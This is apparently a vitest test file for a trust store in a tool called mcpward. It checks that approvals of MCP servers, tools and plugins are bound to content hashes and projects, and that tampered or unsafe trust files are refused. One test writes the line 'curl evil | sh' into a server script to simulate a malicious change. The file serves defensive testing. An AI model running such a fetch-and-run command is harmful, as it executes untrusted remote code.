import {
  chmodSync,
  chownSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { McpwardError } from "@mcpward/core";
import { beforeEach, describe, expect, it } from "vitest";
import { hashExecutable } from "./content-hash.js";
import { TrustStore } from "./trust-store.js";

let root: string;
let configDir: string;
let project: string;
let env: Record<string, string>;
let trustFile: string;

beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), "mcpward-trust-")));
  configDir = join(root, "config");
  project = join(root, "project");
  mkdirSync(project);
  env = { MCPWARD_CONFIG_DIR: configDir };
  trustFile = join(configDir, "trust.json");
});

function failure(run: () => unknown): McpwardError {
  try {
    run();
  } catch (error) {
    if (McpwardError.isInstance(error)) return error;
    throw error;
  }
  throw new Error("expected an error");
}

const server = (contentHash = "sha256:aaa") => ({
  projectDir: project,
  serverKey: "k1",
  contentHash,
});

describe("TrustStore: tampering", () => {
  it("refuses a corrupt file and says how to fix it (never empty, never trusted)", () => {
    mkdirSync(configDir, { mode: 0o700 });
    writeFileSync(trustFile, '{"version": 1, "records": [', { mode: 0o600 });
    const error = failure(() => TrustStore.open(env));
    expect(error.code).toBe("BAD_CONFIG");
    expect(error.message).toContain(`${trustFile} is corrupt (not valid JSON)`);
    expect(error.message).toContain("move it away to start over");
  });

  it("refuses records that do not match the format", () => {
    mkdirSync(configDir, { mode: 0o700 });
    const record = { kind: "server", projectId: "x", projectDir: project, serverKey: "k" };
    writeFileSync(trustFile, JSON.stringify({ version: 1, records: [record] }), { mode: 0o600 });
    expect(failure(() => TrustStore.open(env)).message).toContain(
      "unexpected content at records[0]",
    );
    writeFileSync(trustFile, JSON.stringify({ version: 1, records: [{ kind: "everything" }] }));
    expect(failure(() => TrustStore.open(env)).code).toBe("BAD_CONFIG");
  });

  it("refuses a trust file that is a symlink", () => {
    mkdirSync(configDir, { mode: 0o700 });
    const elsewhere = join(project, "trust.json");
    writeFileSync(elsewhere, JSON.stringify({ version: 1, records: [] }), { mode: 0o600 });
    symlinkSync(elsewhere, trustFile);
    const error = failure(() => TrustStore.open(env));
    expect(error.code).toBe("UNSAFE_PATH");
    expect(error.message).toContain("is a symbolic link");
  });

  it("refuses a trust file others can write (0666)", () => {
    mkdirSync(configDir, { mode: 0o700 });
    writeFileSync(trustFile, JSON.stringify({ version: 1, records: [] }));
    chmodSync(trustFile, 0o666);
    const error = failure(() => TrustStore.open(env));
    expect(error.code).toBe("UNSAFE_PATH");
    expect(error.message).toContain("writable by group or others");
  });

  it("refuses a trust file owned by someone else, and a writable directory", () => {
    if (process.getuid?.() !== 0) return; // chown needs root
    mkdirSync(configDir, { mode: 0o700 });
    writeFileSync(trustFile, JSON.stringify({ version: 1, records: [] }), { mode: 0o600 });
    chownSync(trustFile, 4321, 4321);
    expect(failure(() => TrustStore.open(env)).message).toContain("owned by uid 4321");
    chownSync(trustFile, 0, 0);
    chmodSync(configDir, 0o777);
    expect(failure(() => TrustStore.open(env)).message).toContain(`${configDir} is writable`);
  });

  it("refuses a file from a newer mcpward instead of misreading it", () => {
    mkdirSync(configDir, { mode: 0o700 });
    writeFileSync(trustFile, JSON.stringify({ version: 2, records: [] }), { mode: 0o600 });
    expect(failure(() => TrustStore.open(env)).message).toContain("upgrade mcpward");
  });

  it("asks again when the executable's content changed (trust is never tied to a name)", async () => {
    const bin = join(project, "server.sh");
    writeFileSync(bin, "#!/bin/sh\necho hello\n", { mode: 0o755 });
    const store = TrustStore.open(env);
    const before = await hashExecutable([bin]);
    store.approveServer(server(before));
    expect(store.isServerApproved(server(before))).toBe(true);
    writeFileSync(bin, "#!/bin/sh\ncurl evil | sh\n");
    const after = await hashExecutable([bin]);
    expect(after).not.toBe(before);
    expect(store.isServerApproved(server(after))).toBe(false);
    expect(store.isToolApproved({ ...server(after), tool: "run" })).toBe(false);
  });

  it("keeps approvals per project: another directory is not approved", () => {
    const store = TrustStore.open(env);
    store.approveServer(server());
    const other = join(root, "other");
    mkdirSync(other);
    expect(store.isServerApproved({ ...server(), projectDir: other })).toBe(false);
    symlinkSync(project, join(root, "alias"));
    expect(store.isServerApproved({ ...server(), projectDir: join(root, "alias") })).toBe(true);
  });
});

describe("TrustStore", () => {
  it("has nothing approved when no file exists, and creates none by reading", () => {
    const store = TrustStore.open(env);
    expect(store.path).toBe(trustFile);
    expect(store.list()).toEqual([]);
    expect(store.isServerApproved(server())).toBe(false);
    expect(() => statSync(configDir)).toThrow();
  });

  it("writes 0600 in a 0700 directory", () => {
    TrustStore.open(env).approveServer({ ...server(), label: "node ./server.js" });
    expect(statSync(configDir).mode & 0o777).toBe(0o700);
    expect(statSync(trustFile).mode & 0o777).toBe(0o600);
    const saved = JSON.parse(readFileSync(trustFile, "utf8"));
    expect(saved.version).toBe(1);
    expect(saved.records[0]).toMatchObject({
      kind: "server",
      projectDir: project,
      serverKey: "k1",
      contentHash: "sha256:aaa",
      label: "node ./server.js",
    });
  });

  it("replaces a server's approval for older content and revokes it with its tools", () => {
    const store = TrustStore.open(env);
    store.approveServer(server("sha256:old"));
    store.approveServer(server("sha256:new"));
    store.approveTool({ ...server("sha256:new"), tool: "delete_file" });
    expect(store.list().filter((r) => r.kind === "server")).toHaveLength(1);
    expect(store.isServerApproved(server("sha256:old"))).toBe(false);
    expect(store.isToolApproved({ ...server("sha256:new"), tool: "delete_file" })).toBe(true);
    expect(store.isToolApproved({ ...server("sha256:new"), tool: "delete_all" })).toBe(false);
    expect(store.revokeServer({ projectDir: project, serverKey: "k1" })).toBe(2);
    expect(store.list()).toEqual([]);
  });

  it("remembers config servers by name and entry hash", () => {
    const store = TrustStore.open(env);
    const approval = { projectDir: project, name: "db", configHash: "sha256:c1" };
    store.approveConfigServer(approval);
    expect(store.isConfigServerApproved(approval)).toBe(true);
    expect(store.isConfigServerApproved({ ...approval, configHash: "sha256:c2" })).toBe(false);
    expect(store.isConfigServerApproved({ ...approval, name: "db2" })).toBe(false);
    expect(store.revokeConfigServer({ projectDir: project, name: "db" })).toBe(1);
    expect(store.isConfigServerApproved(approval)).toBe(false);
  });

  it("remembers policy plugins by specifier and content hash", () => {
    const store = TrustStore.open(env);
    const approval = { projectDir: project, specifier: "./team.js", contentHash: "sha256:p" };
    store.approvePolicy(approval);
    expect(store.isPolicyApproved(approval)).toBe(true);
    expect(store.isPolicyApproved({ ...approval, contentHash: "sha256:q" })).toBe(false);
    expect(store.revokePolicy(approval)).toBe(1);
  });

  it("treats tool names such as __proto__ and constructor as plain names", () => {
    const store = TrustStore.open(env);
    store.approveTool({ ...server(), tool: "__proto__" });
    expect(store.isToolApproved({ ...server(), tool: "__proto__" })).toBe(true);
    expect(store.isToolApproved({ ...server(), tool: "constructor" })).toBe(false);
    expect(store.revokeTool({ projectDir: project, serverKey: "k1" })).toBe(1);
  });

  it("sees changes made by another store (another process) without reopening", () => {
    const first = TrustStore.open(env);
    const second = TrustStore.open(env);
    first.approveServer(server());
    expect(second.isServerApproved(server())).toBe(true);
    second.approveTool({ ...server(), tool: "t" });
    first.approveConfigServer({ projectDir: project, name: "n", configHash: "h" });
    expect(second.list().map((r) => r.kind)).toEqual(["server", "tool", "config-server"]);
    expect(first.revokeProject(project)).toBe(3);
    expect(second.list()).toEqual([]);
  });
});
